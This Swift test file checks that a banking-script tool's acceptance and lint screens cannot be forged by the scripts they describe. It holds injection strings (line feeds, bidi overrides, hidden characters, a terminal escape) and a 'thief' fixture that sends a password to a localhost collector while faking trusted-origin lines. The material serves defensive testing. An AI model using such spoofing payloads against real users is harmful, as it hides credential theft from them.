import BankScript
import Encodings
import Foundation
import Synchronization
import Terminal
import TestSupport
import Testing

@testable import ScriptCommands

@Suite("A script whose author writes the screen")
struct ForgedLinesTests {
    @Test("begins no row in what has changed, by spaces or by what is blank", arguments: [" ", "\u{A0}", "\u{2800}"])
    func changed(blank: String) {
        func disclosure(_ link: String) -> ScriptDisclosure {
            ScriptDisclosure(
                BankScript("zz", named: "Bank", at: "https://bank.example") {
                    Follow(link)
                    Download("PDF")
                })
        }
        let fill = String(repeating: blank, count: 80)
        let lines = AcceptanceDescription.difference(
            of: disclosure("Statements\(fill)Nothing leaves."), from: disclosure("Statements").comparable)
        let changed = lines.map(\.text).filter { $0.contains("Nothing leaves.") }
        #expect(changed.count == 2 && !changed.contains { $0.contains(fill.prefix(4)) }, "\(changed)")
        // Nor by its length alone, at a screen of any width.
        let text = Mutex("")
        Console { piece in text.withLock { $0 += piece } }.show(lines, on: Screen(columns: 60, rows: 24))
        let rows = text.withLock { $0 }.split(separator: "\n")
        #expect(rows.allSatisfy { $0.hasPrefix("  ") && $0.count <= 60 }, "\(rows)")
    }

    /// A script in which “~” begins every text that its author may choose.
    private static let script = #"""
        bank: everything
        name: "~Every Part"
        origins: ["~https://bank.example", "~https://login.bank.example"]
        pins: { "~https://bank.example": ["~sha256/AAAA"] }
        testing: true
        locale: "~de"
        credentials: [username, password, "~pin"]
        parameters:
          "~month": 2..11
          "~account": { choice: ["~Giro", "~Savings"] }
          "~reference": { text: "~[a-z]+" }
        interruptions:
          - { when: { titled: "~Closed" }, fail: NAVIGATION_FAILED, reason: maintenance }
          - when: { all: [{ says: "~Offer" }, { path: "~/offer*" }] }
            pass: [follow: { link: { exact: "~No" }, in: { heading: { regex: "~An.*" } } }]
        dialogs:
          - { says: "~Really?", answer: accept, text: "~Yes" }
        accounts: { names: { css: "~.account" }, alias: "~[0-9]+" }
        steps:
          - open: "~/begin"
          - fill: { "~Customer": $username, "~Fixed": "~literal" }
          - fill: { xpath: "~//input", with: "~{{ month }}" }
          - choose: { "~Year": "~{{ year }}" }
          - check: "~Stay"
          - press: { button: "~Sign in", containing: "~now" }
          - enter: "~#frame"
          - second factor:
              { field: "~Code", picture: "~.picture", from: [vault, person], within: 1 min, confirm: "~Send", question: "~Which?", token: "~Photon" }
          - second factor: { push until: { shows: { row: "~Sales" } }, every: 3 s, from: [person], within: 61 s }
          - second factor: { choice: "~.way", from: [person], within: 62 s }
          - second factor: { as: "~tan", from: [vault], within: 63 s }
          - expect: { shows: { cell: "~Balance", in: { row: "~Account" } } }
          - fail: { BANK_LOGIN_FAILED: "~.error", reason: wrong_credentials }
          - when: { equal: ["~{{ month }}", "~7"] }
            then: [follow: "~July"]
            otherwise: [follow: { control: "~Other" }]
          - search: { for: { text: "~Statement" }, next: "~Next", at most: 13 pages }
          - capture: { "~stand": { css: "~#stand", matching: "~([0-9]+)" } }
          - capture: { place: { css: "~a", attribute: "~href" } }
          - capture: { head: { header: "~X-Head", secret: true } }
          - capture: { crumb: { cookie: "~session" } }
          - capture: { path: { json: "~$.path[2]" } }
          - capture: { sentence: { template: "~Sentence {{ place }}" } }
          - request:
              PUT: "~/api/{{ crumb }}"
              headers: { "~X-One": { scheme: "~Bearer", captured: head }, "~X-Two": "~two" }
              body: { "~a": ["~deep"], b: { "~c": { captured: tan } } }
          - request: { POST: "~https://login.bank.example/x", form: { "~p": $password, "~q": "~r" } }
          - wait until: { page: { json: "~$.ready", is: "~yes" }, polling: { GET: "~/api/ready" }, every: 700 ms, within: 64 s }
          - download: { open: "~/pdf/{{ path }}" }
        finally:
          - press: "~Sign out"
        """#

    /// Escapes of YAML for scalars that begin a line, hide something, or turn the reading direction.
    private static let poisons = [#"\nX"#, #"\u2028X\u202E\u200B\uE000\e[2J"#]

    /// The scripts that have a poison in one of their texts.
    private static let poisoned: [(text: String, yaml: String)] = {
        let parts = script.components(separatedBy: "~")
        return (1..<parts.count).flatMap { index in
            poisons.map { poison in
                (
                    String(parts[index].prefix { $0 != "\"" }),
                    parts[..<index].joined() + poison + parts[index...].joined()
                )
            }
        }
    }()

    /// The texts that are sent, and so may have a line feed.
    private static let sent = ["literal", "{{ month }}", "deep", "p", "q", "r", "Sentence {{ place }}"]

    private func expectNoForgery(_ printed: String, _ comment: @autoclosure () -> String) {
        // A reader of U+2028 begins a line there.
        let lines = printed.unicodeScalars.split { $0 == "\n" || $0 == "\u{2028}" }.map(String.init)
        #expect(!lines.contains { $0.hasPrefix("X") }, "\(comment())")
        #expect(lines.allSatisfy { $0.hiddenScalars.isEmpty }, "\(comment())\n\(printed)")
    }

    private func printed(_ body: (Console) -> Void) -> String {
        let text = Mutex("")
        body(Console { piece in text.withLock { $0 += piece } })
        return text.withLock { $0 }
    }

    @Test("forges no line of accept or lint by any of its texts")
    func everyLeaf() throws {
        #expect(Self.poisoned.count > 140)
        var read = 0
        for (text, yaml) in Self.poisoned {
            do throws(ScriptSyntaxError) {
                let script = try BankScript(yaml: yaml, file: "a.yaml")
                read += 1
                let description = AcceptanceDescription(of: script, after: nil)
                for line in description.lines {
                    #expect(line.text.hiddenScalars.isEmpty, "\(text): \(line.text.visible)")
                }
                expectNoForgery(printed { $0.show(description.lines) }, text)
                expectNoForgery(AcceptanceQuestion(script).description, text)
                let findings = ScriptLint.findings(in: script)
                let isNeeded = yaml.contains(#""\nX"#) && Self.sent.contains(text)
                #expect(findings.contains { $0.rule == "hidden-character" } || isNeeded, "\(text)")
                for finding in findings { expectNoForgery(finding.located(in: yaml).described(in: yaml), text) }
            } catch {
                expectNoForgery(error.described(in: yaml), text)
            }
        }
        // The others are refused as they are read.
        #expect(read > 100)
    }

    @Test("fills no screen by any of its texts, and says how long each is")
    func longTexts() throws {
        let parts = Self.script.components(separatedBy: "~")
        for index in 1..<parts.count {
            let yaml = parts[..<index].joined() + String(repeating: "X ", count: 5_000) + parts[index...].joined()
            guard let script = try? BankScript(yaml: yaml, file: "a.yaml") else { continue }
            let lines = AcceptanceDescription(of: script, after: nil).lines.map(\.text)
            #expect(lines.allSatisfy { $0.count < 1_300 }, "\(parts[index].prefix(20))")
            #expect(lines.contains { $0.contains(#/\(10\d\d\d characters\)/#) }, "\(parts[index].prefix(20))")
        }
    }

    @Test("shows a change in the middle of a long text")
    func longChange() throws {
        func script(_ letter: String) throws -> BankScript {
            let filler = String(repeating: "a", count: 200)
            return try BankScript(
                yaml: """
                    bank: x
                    name: X
                    origins: [https://a.example]
                    steps:
                      - open: /\(filler)\(letter)\(filler)
                    """, file: "a.yaml")
        }
        let (before, after) = (ScriptDisclosure(try script("b")), ScriptDisclosure(try script("c")))
        #expect(before.lines == after.lines && before.comparable != after.comparable)
    }

    // MARK: The screen of a thief

    private static let thief = #"""
        bank: zz
        name: "Bank"
        testing: true
        origins: ["http://localhost:4001", "http://localhost:4002"]
        steps:
          - request:
              POST: "http://localhost:4002/collect?\#(String(repeating: #"\n"#, count: 60))Bank (zz), language 1\n  \#
        origin https://banking.good.example\nWhat leaves, and where to\n  https://banking.good.example\n    \#
        the password  in a form"
              body: { p: $password }
          - download: { open: "http://localhost:4001/a.pdf" }
        """#

    @Test("writes no line of the acceptance, and the last line names where the password goes")
    func thief() throws {
        let script = try BankScript(yaml: Self.thief, file: "zz.yaml")
        let text = printed { $0.show(AcceptanceDescription(of: script, after: nil).lines) }
        let lines = text.components(separatedBy: "\n")
        #expect(lines.filter { $0.contains("What leaves, and where to") && $0.hasPrefix("What") }.count == 1, "\(text)")
        #expect(!lines.contains("  origin https://banking.good.example"), "\(text)")
        #expect(!lines.contains("  https://banking.good.example"), "\(text)")
        let row = "  http://localhost:4002\n    the password  POST\n      http://localhost:4002/collect?\\u000a"
        #expect(text.contains(row), "\(text)")
        #expect(
            AcceptanceQuestion(script).description
                == "May this script for “zz” run its 2 steps and send password to 2 origins: http://localhost:4001, "
                + "http://localhost:4002?")
    }

    @Test("writes no line that accept, lint, list or the phone's list prints")
    func commands() async throws {
        let yaml = Self.thief.replacing(#"name: "Bank""#, with: #"name: "Bank\nX\u202E""#)
        try await TemporaryFolder.with(["zz.yaml": yaml]) { folder in
            let home = ["COUNTERSIGN_HOME": try SharedScript.home(in: folder).path]
            func run(_ arguments: String...) async throws -> CountersignProcess.Outcome {
                try await CountersignProcess(arguments, environment: home, in: folder).run()
            }
            let linted = try await run("script", "lint", "zz.yaml")
            #expect(linted.status == 3 && linted.output.contains("[hidden-character]"), "\(linted.all)")
            let digest = try await CountersignProcess.digest(of: "zz.yaml", in: folder)
            let accepted = try await run("script", "accept", "zz.yaml", "--digest", digest)
            #expect(accepted.status == 0, "\(accepted.all)")
            let listed = try await run("script", "list", "--scripts", ".")
            let known = try await run("phone", "scripts", "list")
            #expect(listed.output.contains("“Bank\\u000aX\\u202e” has invisible characters"), "\(listed.all)")
            #expect(known.output.contains("zz  Bank\\u000aX\\u202e"), "\(known.all)")
            for outcome in [linted, accepted, listed, known] {
                let lines = outcome.all.components(separatedBy: "\n")
                #expect(!lines.contains { $0.hasPrefix("X") }, "\(outcome.all)")
                #expect(!lines.contains { $0.hasPrefix("  https://banking.good") }, "\(outcome.all)")
                #expect(lines.allSatisfy { $0.hiddenScalars.isEmpty }, "\(outcome.all)")
            }
        }
    }
}
